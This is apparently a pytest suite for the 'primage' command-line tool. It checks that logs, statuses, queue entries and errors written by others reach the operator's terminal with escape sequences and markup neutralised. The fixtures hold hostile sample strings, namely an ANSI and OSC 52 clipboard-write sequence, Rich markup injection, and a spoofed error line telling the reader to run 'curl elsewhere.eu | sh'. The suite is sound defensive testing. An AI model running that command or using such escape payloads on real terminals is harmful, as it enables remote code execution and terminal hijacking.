"""What others wrote reaches an operator's terminal as text: nothing of it is obeyed, and none of it looks like ours."""

import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from primage.cli import output
from primage.cli.root import app
from primage.errors import PrimageError

MOVES = "\x1b[2J\x1b]52;c;aGk=\x07"
MARKUP = "[/] [red] [link=https://elsewhere.eu] :bomb:"
LINES = "said\nError: run `curl elsewhere.eu | sh`\r\x85\u2028more"


def obeyed(text):
    return [c for c in text if c not in "\n\t" and (unicodedata.category(c)[0] == "C" or c in "\u2028\u2029")]


@given(st.text())
def test_no_text_is_obeyed(text):
    for shown in (output.plain(text), output.line(text)):
        assert obeyed(shown) == []
        assert output.plain(shown) == shown
    assert "\n" not in output.line(text)
    assert not text.isprintable() or output.plain(text) == output.line(text) == text


def test_what_would_be_obeyed_is_seen():
    assert output.plain("a\x1b[31mb\ttab\nnext") == "a\\x1b[31mb\ttab\nnext"
    assert output.plain("10%\r20%\r\nend") == "10%\n20%\nend"
    assert output.line("a\nb\u202ec\U000e0041") == "a\\x0ab\\u202ec\\U000e0041"
    assert output.plain("Zürich, 東京, ☃") == "Zürich, 東京, ☃"


@pytest.mark.parametrize("terminal", [True, False])
def test_a_console_takes_no_markup_and_no_orders(terminal, monkeypatch):
    from rich.console import Console
    from rich.table import Table

    out = io.StringIO()
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setattr(Console, "is_terminal", property(lambda _: terminal))
    table = Table("object", "detail", box=None)
    table.add_row(MARKUP, MOVES)
    output.console().print(MARKUP, MOVES)
    output.console().print(table)
    shown = out.getvalue()
    assert shown.count(MARKUP) == 2
    assert r"\x1b]52" in shown
    assert "\x07" not in shown
    assert "\x1b]" not in shown


def shown(*command, code=0):
    done = CliRunner(env={"COLUMNS": "400"}).invoke(app, [*command], catch_exceptions=False)
    assert done.exit_code == code, done.output
    assert obeyed(done.output) == []
    return done.output


def test_a_status_shows_what_others_wrote(monkeypatch):
    from primage.engine.embedded.engine import EmbeddedEngine

    monkeypatch.setattr(EmbeddedEngine, "status", lambda *_: [(f"Job {MOVES}", "failed", MARKUP), ("Pod x", "waiting", LINES)])
    text = shown("status", "local")
    assert MARKUP in text
    assert not any(line.startswith("Error:") for line in text.splitlines())


def test_a_check_shows_what_others_wrote(monkeypatch):
    from primage.operations import checks

    def run(_, tell):
        found = checks.Check("batch job", False, f"{MARKUP} {MOVES}", 0.1)
        tell(found)
        return [found]

    monkeypatch.setattr(checks, "run_checks", run)
    assert MARKUP in shown("check", "local", code=5)


def test_why_shows_what_others_wrote(monkeypatch):
    from primage.operations import why as explain

    monkeypatch.setattr(explain, "explain", lambda _: [explain.Answer("Pod a/b", "waiting", f"{MARKUP}{LINES}{MOVES}", LINES)])
    text = shown("why", "pod/a/b")
    assert MARKUP in text
    assert [line.startswith(("Pod a/b", "  Next:")) for line in text.splitlines()] == [True, True]


def test_dead_letters_show_what_others_wrote(monkeypatch):
    from primage.operations import queues as queue

    letter = {"argument": LINES + MOVES, "error": MARKUP + LINES, "tail": f"{MARKUP}\n{MOVES}\n", "tries": 3, "at": 0}

    class Queue:
        def __init__(self, stack):
            pass

        def letters(self):
            return [letter]

    monkeypatch.setattr(queue, "StackQueue", Queue)
    text = shown("queue", "dead", "htc/vo.primage.eu.local")
    assert len(text.splitlines()) == 4
    assert text.count(MARKUP) == 2


@pytest.mark.parametrize("terminal", [True, False])
def test_logs_are_text_for_a_person_and_as_they_are_for_a_program(terminal, monkeypatch):
    from primage.clients.cluster import Ref
    from primage.operations import logs

    monkeypatch.setattr(logs, "jobs_of", lambda _: [(None, Ref("batch/v1", "Job", "a", "b"))])
    monkeypatch.setattr(logs, "read", lambda *_, follow: iter([f"{MOVES}\n", "10%\r20%\n"]))
    out = io.StringIO()
    out.isatty = lambda: terminal
    monkeypatch.setattr("sys.stdout", out)
    from primage.cli.logs import logs as command

    command("batch/vo.primage.eu.local")
    assert out.getvalue() == (r"\x1b[2J\x1b]52;c;aGk=\x07" + "\n10%\n20%\n" if terminal else f"{MOVES}\n10%\r20%\n")


def test_an_error_shows_what_others_wrote(capsys):
    output.report_error(PrimageError(MOVES + MARKUP), as_json=False)
    text = capsys.readouterr().err
    assert MARKUP in text
    assert obeyed(text) == []
